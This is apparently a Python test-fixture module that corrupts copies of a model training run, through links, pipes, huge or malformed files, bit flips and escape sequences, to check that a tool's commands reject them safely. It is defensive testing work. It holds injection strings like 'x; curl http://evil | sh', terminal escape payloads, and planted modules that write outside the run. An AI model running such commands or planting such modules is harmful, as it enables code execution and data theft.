"""The variants of a good run that a stranger, a bad disk or an editor might make of it.

Each is a change of a copy, the commands that open it, and what their message has to name.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import stat
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import attrs
import numpy as np
import safetensors.numpy

NEWEST = "checkpoints/step-00000036"
OLDER = "checkpoints/step-00000033"
Change = Callable[[Path, Path], None]


@attrs.frozen(kw_only=True)
class Variant:
    """A change of a good run.

    names: a pattern of what the message has to name, empty where the commands may do their work;
    here: they are given in the run's own folder.
    """

    name: str
    kind: str
    change: Change
    commands: tuple[str, ...]
    names: str = ""
    here: bool = False
    folder: str = attrs.field(
        default=attrs.Factory(lambda self: re.sub(r"\W+", "-", self.name), takes_self=True)
    )


VARIANTS: list[Variant] = []


def add(kind: str, name: str, change: Change, *commands: str, names: str = "", **more: Any) -> None:
    VARIANTS.append(
        Variant(
            kind=kind, name=f"{kind}: {name}", change=change, commands=commands, names=names, **more
        )
    )


# ---- how a file is changed --------------------------------------------------------------------


def to_link(name: str, target: str) -> Change:
    def change(run: Path, outside: Path) -> None:
        remove(run / name)
        (run / name).symlink_to(outside / target)

    return change


def remove(path: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        path.rename(path.parent.parent / f"moved-{path.parent.name}-{path.name}")
    else:
        path.unlink(missing_ok=True)


def to_special(name: str, make: Callable[[Path], None]) -> Change:
    def change(run: Path, _: Path) -> None:
        remove(run / name)
        make(run / name)

    return change


def to_bytes(name: str, content: bytes | Callable[[bytes], bytes]) -> Change:
    def change(run: Path, _: Path) -> None:
        path = run / name
        old = path.read_bytes() if path.is_file() else b""
        path.write_bytes(content(old) if callable(content) else content)

    return change


def to_text(name: str, old: str, new: str) -> Change:
    def replaced(content: bytes) -> bytes:
        text = content.decode()
        assert old in text, (name, old)
        return text.replace(old, new).encode()

    return to_bytes(name, replaced)


def to_json(name: str, alter: Callable[[Any], Any]) -> Change:
    def altered(content: bytes) -> bytes:
        value = json.loads(content)
        found = alter(value)
        return json.dumps(value if found is None else found, ensure_ascii=False).encode(
            "utf-8", "surrogatepass"
        )

    return to_bytes(name, altered)


def to_tensors(name: str, alter: Callable[[dict[str, Any]], Any], *, rehash: bool = True) -> Change:
    """Change the tensors of a file of the newest checkpoint, and the hash that tells it."""

    def change(run: Path, _: Path) -> None:
        path = run / NEWEST / name
        tensors = {key: value.copy() for key, value in safetensors.numpy.load_file(path).items()}
        found = alter(tensors)
        path.write_bytes(found if isinstance(found, bytes) else safetensors.numpy.save(tensors))
        if rehash:
            hash_again(run, name)

    return change


def hash_again(run: Path, name: str) -> None:
    state = json.loads((run / NEWEST / "state.json").read_text())
    state["sha256"][name] = hashlib.sha256((run / NEWEST / name).read_bytes()).hexdigest()
    (run / NEWEST / "state.json").write_text(json.dumps(state))


def with_tokenizer(alter: Callable[[Any], Any]) -> Change:
    """Change tokenizer.json, and the hash that tells it."""

    def change(run: Path, outside: Path) -> None:
        to_json("tokenizer.json", alter)(run, outside)
        manifest = json.loads((run / "manifest.json").read_text())
        content = (run / "tokenizer.json").read_bytes()
        manifest["sha256"]["tokenizer.json"] = hashlib.sha256(content).hexdigest()
        (run / "manifest.json").write_text(json.dumps(manifest))

    return change


def setting(section: str, key: str, value: str) -> Change:
    """Change a setting in run.toml, which TOML texts are given for."""

    def replaced(content: bytes) -> bytes:
        before, mark, after = content.decode().partition(f"[{section}]")
        pattern = rf"(?m)^{key} = (\[\n(?:    .*\n)*\]|.*)$"
        assert re.search(pattern, after), (section, key)
        return (
            before + mark + re.sub(pattern, lambda _: f"{key} = {value}", after, count=1)
        ).encode()

    return to_bytes("run.toml", replaced)


def several(*changes: Change) -> Change:
    def change(run: Path, outside: Path) -> None:
        for each in changes:
            each(run, outside)

    return change


def sparse(name: str, size: int) -> Change:
    def change(run: Path, _: Path) -> None:
        with (run / name).open("r+b") as file:
            file.truncate(size)

    return change


def header_of(tensors: dict[str, Any], data: bytes = b"") -> bytes:
    text = json.dumps(tensors) if isinstance(tensors, dict) else tensors
    encoded = text.encode()
    return struct.pack("<Q", len(encoded)) + encoded + data


# ---- links, pipes, devices and folders -------------------------------------------------

# The files of a run, and the commands that read them.
FILES = {
    "run.toml": ("generate", "report", "resume", "open_run"),
    "manifest.json": ("generate", "report"),
    "tokenizer.json": ("generate", "score", "explore"),
    "counts.safetensors": ("generate", "resume"),
    "best.json": ("generate", "report"),
    "metrics.jsonl": ("evaluate", "report", "resume"),
    "samples.jsonl": ("report", "resume"),
    "analysis.json": ("report",),
    "evaluation.json": ("report",),
    f"{NEWEST}/weights.safetensors": ("generate", "score"),
    f"{NEWEST}/state.json": ("generate", "resume"),
    f"{NEWEST}/optimizer.safetensors": ("resume",),
    f"{NEWEST}/carry.safetensors": ("resume",),
}


def make_folder(path: Path) -> None:
    path.mkdir()
    (path / "inside").write_text("x")


for file, commands in FILES.items():
    end = re.escape(file.rpartition("/")[2])
    add("link", f"{file} is a link", to_link(file, "secret"), *commands, names=end)
    add("special", f"{file} is a pipe", to_special(file, os.mkfifo), *commands, names=end)
    add("special", f"{file} is a folder", to_special(file, make_folder), commands[0], names=end)
    if os.geteuid() == 0:
        device = to_special(
            file, lambda path: os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))
        )
        add("special", f"{file} is a device", device, commands[0], names=end)

for file, command in {
    "metrics.jsonl": "resume",
    "samples.jsonl": "resume",
    "best.json": "resume",
}.items():
    add(
        "link",
        f"{file} is a link to nothing",
        to_link(file, "absent"),
        command,
        names=re.escape(file),
    )
add("link", "report.html is a link", to_link("report.html", "secret"), "report")
add(
    "link", "evaluation.json is a link to nothing", to_link("evaluation.json", "absent"), "evaluate"
)
add(
    "link",
    "the checkpoints are a link",
    to_link("checkpoints", "checkpoints"),
    "generate",
    "resume",
    names="checkpoints",
)
add(
    "link",
    "a checkpoint is a link",
    to_link(NEWEST, "checkpoints"),
    "generate",
    "resume",
    names=NEWEST.rpartition("/")[2],
)
add("link", "the lock is a link", to_link(".lock", "secret"), "resume", names="lock")
add("special", "the lock is a pipe", to_special(".lock", os.mkfifo), "resume", names="lock")
for folder in ("tensorboard", "profile", "wandb"):
    change = several(
        to_link(folder, "checkpoints"),
        to_text("run.toml", "trackers = []", 'trackers = [{ name = "tensorboard" }]'),
        setting("training", "profile", "[40, 41]"),
    )
    add("link", f"{folder} is a link", change, "resume", names=folder)
add(
    "link",
    "a link deep in a tracker's folder",
    several(
        lambda run, outside: (run / "wandb" / "run-1").mkdir(parents=True),
        to_link("wandb/run-1/files", "checkpoints"),
    ),
    "resume",
    names="files",
)
add(
    "special",
    "a tracker's file is a pipe",
    several(
        lambda run, outside: (run / "wandb").mkdir(), to_special("wandb/textgen.json", os.mkfifo)
    ),
    "resume",
    names="textgen.json",
)

# ---- sizes ---------------------------------------------------------------------------------

for key, value in {
    "layers": "1000000",
    "units": "[20000]",
    "embedding": "10000000",
    "ngrams": "1000000",
}.items():
    add(
        "size",
        f"model.{key} = {value}",
        setting("model", key, value),
        "generate",
        names=r"run\.toml|weights",
    )
for section, key, value, command in (
    ("data", "sequence_length", "1000000000", "generate"),
    ("data", "sequence_length", "1000000000", "evaluate"),
    ("generation", "max_new_tokens", "1000000000", "generate"),
    ("generation", "samples", "1000000000", "resume"),
    ("training", "batch_size", "1000000000", "evaluate"),
    ("training", "accumulate", "1000000000", "resume"),
    ("evaluation", "prompts", "1000000000", "evaluate"),
    ("evaluation", "prompt_tokens", "1000000000", "evaluate"),
    ("evaluation", "continuation_tokens", "1000000000", "evaluate"),
):
    add(
        "size",
        f"{section}.{key} = {value}, {command}",
        setting(section, key, value),
        command,
        names=r"run\.toml|" + key,
    )
add(
    "size",
    "a prompt of 3 MB",
    setting("generation", "prompt", '"' + "mill " * 600_000 + '"'),
    "generate",
    names=r"run\.toml|prompt",
)
add(
    "size",
    "a key of many parts",
    to_bytes("run.toml", lambda old: b"a" + b".a" * 50_000 + b" = 1\n" + old),
    "generate",
    "report",
    names=r"run\.toml",
)
add(
    "size",
    "run.toml of 100 MB",
    sparse("run.toml", 10**8),
    "generate",
    "report",
    names=r"run\.toml",
)
add(
    "size",
    "tokenizer.json of 2 GB",
    sparse("tokenizer.json", 2 * 10**9),
    "generate",
    names=r"tokenizer\.json",
)
add(
    "size",
    "metrics.jsonl of 5 GB",
    sparse("metrics.jsonl", 5 * 10**9),
    "report",
    "evaluate",
    names=r"metrics\.jsonl",
)
add(
    "size",
    "manifest.json of empty lists",
    to_bytes("manifest.json", b'{"components": [' + b"[]," * 5_000_000 + b"[]]}"),
    "generate",
    names=r"manifest\.json",
)


def doubling(tokenizer: Any) -> None:
    rules = [{"type": "Replace", "pattern": {"String": "m"}, "content": "mm"}] * 26
    tokenizer["normalizer"] = {"type": "Sequence", "normalizers": rules}


def doubling_decoders(tokenizer: Any) -> None:
    rules = [{"type": "Replace", "pattern": {"String": "e"}, "content": "ee"}] * 30
    tokenizer["decoder"] = {"type": "Sequence", "decoders": rules}


def prepending(tokenizer: Any) -> None:
    tokenizer["normalizer"] = {"type": "Prepend", "prepend": "m" * 30_000_000}


def catastrophic(tokenizer: Any) -> None:
    pattern = {"Regex": "((m|m)*)*n"}
    tokenizer["pre_tokenizer"] = {
        "type": "Split",
        "pattern": pattern,
        "behavior": "Isolated",
        "invert": False,
    }


for alter in (doubling, doubling_decoders, prepending, catastrophic):
    commands = ("generate",) if alter is doubling_decoders else ("score",)
    add(
        "size",
        f"a tokenizer that is {alter.__name__}",
        with_tokenizer(alter),
        *commands,
        names=r"tokenizer\.json",
    )

# ---- what is printed --------------------------------------------------------------------

EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil"
EVIL_TOML = '"\\u001B]0;owned\\u0007\\u009B31m\\u202Eevil"'


def component(**values: str) -> Change:
    def alter(manifest: Any) -> None:
        manifest["components"][0].update(values)

    return to_json("manifest.json", alter)


add("terminal", "a component's name", component(name=EVIL), "generate", names="owned|evil")
add("terminal", "a component's name in the report", component(name=EVIL), "report")
add(
    "terminal",
    "a distribution's name",
    component(distribution=EVIL),
    "generate",
    names="owned|evil",
)
add("terminal", "a version", component(version=EVIL), "generate", "report")
add(
    "terminal",
    "an unknown key of run.toml",
    to_bytes("run.toml", lambda old: f"{EVIL_TOML} = 1\n".encode() + old),
    "generate",
    names=r"run\.toml",
)
add(
    "terminal",
    "a value of run.toml",
    setting("training", "optimizer", EVIL_TOML),
    "generate",
    names=r"run\.toml",
)
add(
    "terminal",
    "a key of state.json",
    to_json(f"{NEWEST}/state.json", lambda state: {**state, EVIL: 1}),
    "resume",
    names=r"state\.json",
)
add(
    "terminal",
    "a key of a row",
    to_bytes(
        "metrics.jsonl", lambda old: json.dumps({"step": 1, EVIL: "x"}).encode() + b"\n" + old
    ),
    "evaluate",
    "report",
    names=r"metrics\.jsonl",
)
add(
    "terminal",
    "the name of a tensor",
    to_tensors(
        "weights.safetensors",
        lambda tensors: tensors.update({f"0000/{EVIL}": np.zeros(3, np.float32)}),
    ),
    "generate",
    names="weights",
)
add(
    "terminal",
    "best.json",
    to_json("best.json", lambda best: {"checkpoint": EVIL}),
    "generate",
    names=r"best\.json",
)
add(
    "terminal",
    "keys of evaluation.json",
    to_json("evaluation.json", lambda value: {**value, "metrics": {EVIL: EVIL}}),
    "report",
    names=r"evaluation\.json",
)
add(
    "terminal",
    "the name of the run",
    lambda run, outside: (run / "best.json").write_text("]"),
    "generate",
    names="best",
    folder="run\x1b]0;owned\x07\u202e",
)
add("terminal", "the prompt of the run", setting("generation", "prompt", EVIL_TOML), "report")
for length in (100_000, 3_000_000):
    add(
        "terminal",
        f"a key of {length} letters",
        to_bytes("run.toml", lambda old, length=length: b"a" * length + b" = 1\n" + old),
        "generate",
        names=r"run\.toml",
    )
    add(
        "terminal",
        f"a value of {length} letters",
        setting("training", "optimizer", '"' + "a" * length + '"'),
        "generate",
        names=r"run\.toml",
    )
    add(
        "terminal",
        f"a component of {length} letters",
        component(name="a" * length),
        "generate",
        names="manifest|needs",
    )
add(
    "terminal",
    "a long name of a tensor",
    to_tensors(
        "weights.safetensors",
        lambda tensors: tensors.update({"0000/" + "a" * 10**6: np.zeros(3, np.float32)}),
    ),
    "generate",
    names="weights",
)

for words in (
    "x; curl http://evil | sh",
    "--target http://evil",
    "x\ncurl evil",
    "$(evil)",
    "x @ http://evil",
):
    add(
        "advice",
        f"a distribution called {words!r}",
        component(distribution=words, name="gone"),
        "generate",
        names="(?s)^(?!.*pip install (.*evil|x)).*gone",
    )
add(
    "advice",
    "a version with a command",
    component(name="gone", distribution="x", version="1; curl evil"),
    "generate",
    names="(?s)^(?!.*pip install .*evil).*gone",
)

# ---- the current folder, other people's files -------------------------------------------


def plant(run: Path, outside: Path) -> None:
    code = f"open({str(outside / 'harmed-by-a-module')!r}, 'w').close()\n"
    for name in ("keras", "planted", "jinja2"):
        (run / f"{name}.py").write_text(code)
    info = run / "planted-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: planted\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[textgen]\nplanted = planted\n")


add("folder", "modules and a plugin in the run", plant, "report", here=True)


def other_corpus(*paths: str) -> Change:
    """Let a run without a checkpoint name other files as its corpus."""
    return several(
        lambda run, outside: remove(run / "checkpoints"),
        lambda run, outside: remove(run / "manifest.json"),
        lambda run, outside: setting(
            "corpus", "files", json.dumps([each.format(outside=outside) for each in paths])
        )(run, outside),
    )


for path in (
    "{outside}/secret",
    "/proc/kmsg",
    "/dev/zero",
    "/usr",
    "~/diary.txt",
    "{outside}/../pipe",
):
    add("others", f"the corpus is {path}", other_corpus(path), "resume", names="corpus|{path}")
add(
    "others",
    "another corpus to evaluate on",
    lambda run, outside: setting("corpus", "files", json.dumps([str(outside / "secret")]))(
        run, outside
    ),
    "evaluate",
)
add(
    "others",
    "a tracker that sends",
    to_text("run.toml", "trackers = []", 'trackers = [{ name = "wandb", mode = "online" }]'),
    "resume",
)

# ---- damage ----------------------------------------------------------------------------------


def flip(place: float) -> Callable[[bytes], bytes]:
    def flipped(content: bytes) -> bytes:
        at = int(place * (len(content) - 1))
        return content[:at] + bytes([content[at] ^ 16]) + content[at + 1 :]

    return flipped


def of_another_step(name: str) -> Change:
    return lambda run, _: (
        (run / NEWEST / name).write_bytes((run / OLDER / name).read_bytes()) and None
    )


for file, command in (("weights", "generate"), ("optimizer", "resume"), ("carry", "resume")):
    name = f"{NEWEST}/{file}.safetensors"
    for place in (0.0, 0.05, 0.6, 1.0):
        add(
            "damage",
            f"a bit of {file} at {place}",
            to_bytes(name, flip(place)),
            command,
            names=file,
        )
    add(
        "damage",
        f"{file} of another step",
        of_another_step(f"{file}.safetensors"),
        command,
        names=file,
    )
    add(
        "damage",
        f"{file} cut off",
        to_bytes(name, lambda old: old[: len(old) // 2]),
        command,
        names=file,
    )
    add("damage", f"{file} empty", to_bytes(name, b""), command, names=file)
    add(
        "damage",
        f"{file} missing",
        lambda run, _, name=name: (run / name).unlink(),
        command,
        names=file,
    )


for place in (0.0, 0.05, 0.6, 1.0):
    change = to_bytes("counts.safetensors", flip(place))
    add("damage", f"a bit of the counts at {place}", change, "generate", "resume", names="counts")
for what, change in {
    "cut off": to_bytes("counts.safetensors", lambda old: old[: len(old) // 2]),
    "empty": to_bytes("counts.safetensors", b""),
    "missing": lambda run, _: (run / "counts.safetensors").unlink(),
}.items():
    add("damage", f"counts {what}", change, "generate", "score", "resume", names="counts")


def counts_of_100_gb(run: Path, _: Path) -> None:
    """Write counts of one length whose header agrees with their size, and nothing after it."""
    sizes = {"tokens": 5 * 10**10, "starts": 2, "discounted": 5 * 10**10, "left": 1}
    facts = {"format_version": 1, "order": 1, "vocabulary_size": 23}
    header: dict[str, Any] = {"__metadata__": {"counts": json.dumps(facts)}}
    at = 0
    for (kind, size), dtype in zip(sizes.items(), ("U16", "I32", "F32", "F32"), strict=True):
        end = at + size * (2 if dtype == "U16" else 4)
        header[f"1/{kind}"] = {"dtype": dtype, "shape": [size], "data_offsets": [at, end]}
        at = end
    written = header_of(header)
    (run / "counts.safetensors").write_bytes(written)
    sparse("counts.safetensors", len(written) + at)(run, _)


add("damage", "counts of 100 GB", counts_of_100_gb, "generate", "evaluate", names="counts")


def fill(value: float) -> Callable[[dict[str, Any]], None]:
    def filled(tensors: dict[str, Any]) -> None:
        key = next(each for each in sorted(tensors) if tensors[each].dtype.kind == "f")
        tensors[key].flat[0] = value

    return filled


for value in (float("nan"), float("inf")):
    add(
        "damage",
        f"{value} in the weights",
        to_tensors("weights.safetensors", fill(value)),
        "generate",
        "resume",
        names="weights",
    )
add(
    "damage",
    "nan in the carried state",
    to_tensors("carry.safetensors", fill(float("nan"))),
    "resume",
    names="carry",
)
add(
    "damage",
    "nan in the optimizer",
    to_tensors("optimizer.safetensors", fill(float("nan"))),
    "resume",
    names="optimizer",
)


def swap_ids(tokenizer: Any) -> None:
    vocabulary = tokenizer["model"]["vocab"]
    one, other = [key for key in vocabulary if len(key) == 1][:2]
    vocabulary[one], vocabulary[other] = vocabulary[other], vocabulary[one]


add(
    "damage",
    "two token ids swapped",
    to_json("tokenizer.json", swap_ids),
    "generate",
    "score",
    "resume",
    names=r"tokenizer\.json",
)
for key, value in {
    "step": -1,
    "tokens": -5,
    "seconds": "-1.5",
    "best_loss": "-Infinity",
    "rate_factor": "NaN",
    "unlogged_tokens": 10**400,
    "epochs_without_gain": 2.5,
    "best_step": 10**9,
    "scheduled_from": 10**9,
}.items():
    add(
        "damage",
        f"state.json: {key} = {str(value)[:20]}",
        to_bytes(
            f"{NEWEST}/state.json",
            lambda old, key=key, value=value: re.sub(
                rf'"{key}": [^,\n]+'.encode(), f'"{key}": {value}'.encode(), old
            ),
        ),
        "resume",
        names=r"state\.json",
    )
add(
    "damage",
    "state.json of another step",
    of_another_step("state.json"),
    "generate",
    "resume",
    names=r"state\.json|weights",
)
add(
    "damage",
    "state.json missing",
    lambda run, _: (run / NEWEST / "state.json").unlink(),
    "resume",
    names=r"state\.json",
)
for name, row in {
    "a text for a loss": {"step": 1, "loss": "2.5"},
    "a text for a step": {"step": "1", "loss": 2.5},
    "a list for a validation": {"step": 1, "validation_loss": [2]},
    "no step": {"validation_loss": 2.5},
}.items():
    add(
        "damage",
        f"metrics.jsonl: {name}",
        to_bytes("metrics.jsonl", lambda old, row=row: json.dumps(row).encode() + b"\n" + old),
        "evaluate",
        "resume",
        names=r"metrics\.jsonl",
    )
for file in (
    "manifest.json",
    "best.json",
    "analysis.json",
    "evaluation.json",
    "tokenizer.json",
    f"{NEWEST}/state.json",
):
    end = re.escape(file.rpartition("/")[2])
    command = {"best.json": "generate", f"{NEWEST}/state.json": "resume"}.get(file, "report")
    command = "generate" if file in ("manifest.json", "tokenizer.json") else command
    add("damage", f"{file} is deep", to_bytes(file, b"[" * 100_000), command, names=end)
    add(
        "damage",
        f"{file} is deep within",
        to_bytes(file, b'{"a":' * 900 + b"1" + b"}" * 900),
        command,
        names=end,
    )
    add("damage", f"{file} is a huge number", to_bytes(file, b"9" * 5_000), command, names=end)
for name, text in {
    "a huge number": "9" * 5_000,
    "a large number": "9" * 4_000,
    "a deep list": "[" * 5_000,
    "a date": "1979-05-27",
    "1e999": "1e999",
}.items():
    add(
        "damage",
        f"run.toml: {name}",
        setting("training", "learning_rate", text),
        "generate",
        names=r"run\.toml",
    )
add(
    "damage",
    "run.toml with a byte order mark",
    to_bytes("run.toml", lambda old: b"\xef\xbb\xbf" + old),
    "generate",
    "report",
)
add(
    "damage",
    "run.toml is binary",
    to_bytes("run.toml", bytes(range(256))),
    "generate",
    "report",
    names=r"run\.toml",
)


def doubled(tensors: dict[str, Any]) -> bytes:
    whole = safetensors.numpy.save(tensors)
    (length,) = struct.unpack("<Q", whole[:8])
    header = whole[8 : 8 + length].decode().rstrip()
    first = re.search(r'"0000/[^"]*":\{[^}]*\}', header)
    assert first is not None
    return header_of(header[:-1] + "," + first[0] + "}", whole[8 + length :])


def edited(alter: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], bytes]:
    def edit(tensors: dict[str, Any]) -> bytes:
        whole = safetensors.numpy.save(tensors)
        (length,) = struct.unpack("<Q", whole[:8])
        header = json.loads(whole[8 : 8 + length])
        alter(header)
        return header_of(header, whole[8 + length :])

    return edit


def first_tensor(**values: Any) -> Callable[[dict[str, Any]], bytes]:
    return edited(lambda header: header[min(header)].update(values))


for name, alter in {
    "a key twice": doubled,
    "8-bit floats": first_tensor(dtype="F8_E4M3"),
    "a dtype that is a list": first_tensor(dtype=["F32"]),
    "offsets beyond the end": first_tensor(data_offsets=[0, 2**63]),
    "negative sizes": first_tensor(shape=[-4, -8]),
    "sizes whose product is huge": first_tensor(shape=[2**62, 2**62, 2**62]),
    "a text for a shape": first_tensor(shape="3"),
    "no table": lambda tensors: header_of("[1, 2]"),
    "a deep header": lambda tensors: header_of("[" * 100_000),
    "a header of 2^63 bytes": lambda tensors: struct.pack("<Q", 2**63) + b"{}",
    "other floats": lambda tensors: safetensors.numpy.save(
        {key: value.astype(np.float64) for key, value in tensors.items()}
    ),
}.items():
    add(
        "damage",
        f"weights: {name}",
        to_tensors("weights.safetensors", alter),
        "generate",
        names="weights",
    )
add(
    "damage",
    "weights of 100 GB",
    sparse(f"{NEWEST}/weights.safetensors", 10**11),
    "generate",
    names="weights",
)
add(
    "damage",
    "best.json leads out",
    to_json("best.json", lambda best: {"checkpoint": "../../outside"}),
    "generate",
    names=r"best\.json",
)
add(
    "damage",
    "best.json of an absent step",
    to_json("best.json", lambda best: {"checkpoint": "step-00000001"}),
    "generate",
    names=r"best\.json",
)
add(
    "damage",
    "all checkpoints empty",
    lambda run, _: [each.unlink() for each in run.glob("checkpoints/*/*")] and None,
    "generate",
    "resume",
    names="step-",
)


def panicking_decoder(tokenizer: Any) -> None:
    tokenizer["decoder"] = {"type": "Strip", "content": "m", "start": 2**63, "stop": 2**63}


def panicking_normalizer(tokenizer: Any) -> None:
    tokenizer["normalizer"] = {"type": "Replace", "pattern": {"Regex": "(?=m)"}, "content": "x"}


def truncating(tokenizer: Any) -> None:
    tokenizer["truncation"] = {
        "direction": "Right",
        "max_length": 2**63,
        "strategy": "LongestFirst",
        "stride": 2**63,
    }


def without_unknown(tokenizer: Any) -> None:
    tokenizer["model"]["unk_token"] = "nothing"


for alter in (panicking_decoder, panicking_normalizer):
    add(
        "damage",
        f"a tokenizer: {alter.__name__}",
        with_tokenizer(alter),
        "generate",
        "score",
        "evaluate",
    )
for alter in (truncating, without_unknown):
    add("damage", f"a tokenizer: {alter.__name__}", with_tokenizer(alter), "score")
